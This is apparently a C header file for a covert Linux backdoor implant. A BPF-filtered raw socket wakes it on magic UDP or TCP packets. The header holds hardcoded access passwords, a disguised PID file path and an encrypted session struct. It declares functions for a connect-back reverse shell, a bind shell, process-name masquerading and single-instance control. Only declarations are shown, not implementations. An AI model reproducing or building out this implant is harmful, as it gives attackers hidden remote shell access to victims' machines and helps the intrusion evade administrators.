/* Passive implant: a BPF filter on a raw socket wakes it on a "magic" packet. */
#ifndef BD_H
#define BD_H

#include <stdint.h>
#include <netinet/in.h>
#include <openssl/evp.h>

#define BD_MAGIC_UDP   0x7255
#define BD_MAGIC_TCP   0x5293
#define BD_PASS_SHELL  "justforfun"
#define BD_PASS_BIND   "socket"
#define BD_PID_FILE    "/var/run/haldrund.pid"

struct magic_packet {
    uint32_t  flag;
    in_addr_t ip;
    uint16_t  port;
    char      pass[14];
} __attribute__((packed));

struct bd_session {
    int fd;
    EVP_CIPHER_CTX *enc;
    EVP_CIPHER_CTX *dec;
};

/* sniff.c */
int bd_sniff_loop(void);

/* packet.c */
void bd_handle(const struct magic_packet *mp, const struct sockaddr_in *from);

/* shell.c */
void bd_connect_back(in_addr_t ip, uint16_t port);
void bd_bind_shell(in_addr_t src, uint16_t port);

/* mon.c */
void bd_mon_reply(const struct sockaddr_in *to, uint16_t port);

/* disguise.c */
void bd_masquerade(int argc, char **argv);
int bd_single_instance(void);

#endif
